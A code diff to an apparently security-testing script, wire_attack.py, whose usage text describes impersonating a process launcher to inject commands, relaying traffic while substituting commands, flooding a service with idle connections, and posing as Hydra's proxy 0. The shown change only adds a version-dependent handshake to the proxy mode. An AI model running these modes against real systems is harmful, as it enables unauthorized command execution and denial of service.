@@ -4,7 +4,7 @@
   wire_attack.py impostor PORT HALF COMMAND...       be the launcher for whoever calls at PORT: say HALF, then order COMMAND
   wire_attack.py relay PORT HOST LAUNCHER COMMAND... pass everything on to the launcher, then order COMMAND in its place
   wire_attack.py flood HOST PORT N                   hold N connections that say nothing; "holding" when they are there
-  wire_attack.py hydra HOST PORT                     be Hydra's proxy 0 and print what it is told
+  wire_attack.py hydra HOST PORT VERSION             be the proxy 0 of this Hydra ("4.0.2") and print what it is told
 
 The orders are messages as shims of muster took them in clear at commit 3a6d084.
 """
@@ -119,9 +119,10 @@ def flood(host, port, number):
             time.sleep(1)
 
 
-def hydra(host, port):
+def hydra(host, port, version):
     proxy = socket.create_connection((host, port))
-    proxy.sendall(struct.pack("<i", 0))
+    marked = tuple(map(int, version.split(".")[:2])) >= (4, 2)  # a word and the group's number come before the proxy's
+    proxy.sendall(struct.pack("=4sii", b"HYD", 0, 0) if marked else struct.pack("=i", 0))
     proxy.settimeout(3)
     try:
         while data := proxy.recv(65536):
@@ -150,4 +151,4 @@ elif what == "relay":
 elif what == "flood":
     flood(rest[0], int(rest[1]), int(rest[2]))
 elif what == "hydra":
-    hydra(rest[0], int(rest[1]))
+    hydra(rest[0], int(rest[1]), rest[2])
